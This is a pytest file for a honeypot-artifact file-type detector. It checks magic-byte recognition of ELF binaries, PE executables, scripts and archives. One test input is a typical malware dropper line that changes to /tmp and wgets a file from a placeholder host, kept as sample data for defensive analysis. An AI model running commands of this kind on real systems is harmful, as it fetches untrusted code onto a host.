"""File types from first bytes, without libmagic."""

from __future__ import annotations

from pathlib import Path

import pytest

from cowrieprocessor.enrichment.artifacts.filetype import detect, inspect_file


def _elf(bits: int, little: bool, machine: int) -> bytes:
    order = "little" if little else "big"
    return b"\x7fELF" + bytes([bits, 1 if little else 2, 1]) + b"\x00" * 9 + b"\x02\x00" + machine.to_bytes(2, order)


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (_elf(2, True, 0x3E), "ELF 64-bit x86-64"),
        (_elf(1, True, 0x28), "ELF 32-bit ARM"),
        (_elf(1, False, 0x08), "ELF 32-bit MIPS"),
        (b"MZ\x90\x00", "PE executable"),
        (b"#!/bin/sh\ncd /tmp", "sh script"),
        (b"#!/usr/bin/env python3\n", "python3 script"),
        (b"\x1f\x8b\x08\x00", "gzip"),
        (b"PK\x03\x04rest", "zip"),
        (b"cd /tmp; wget http://x/y\n", "text"),
        (b"\x00\x01\x02\x03", "data"),
        (b"", "empty"),
    ],
)
def test_detect(head: bytes, expected: str) -> None:
    assert detect(head) == expected


def test_inspect_file_reads_size_and_type_by_hash(tmp_path: Path) -> None:
    sha = "c" * 64
    (tmp_path / sha).write_bytes(_elf(2, True, 0xB7) + b"\x00" * 1000)
    assert inspect_file(tmp_path, sha) == (1020, "ELF 64-bit AArch64")
    assert inspect_file(tmp_path, "d" * 64) is None
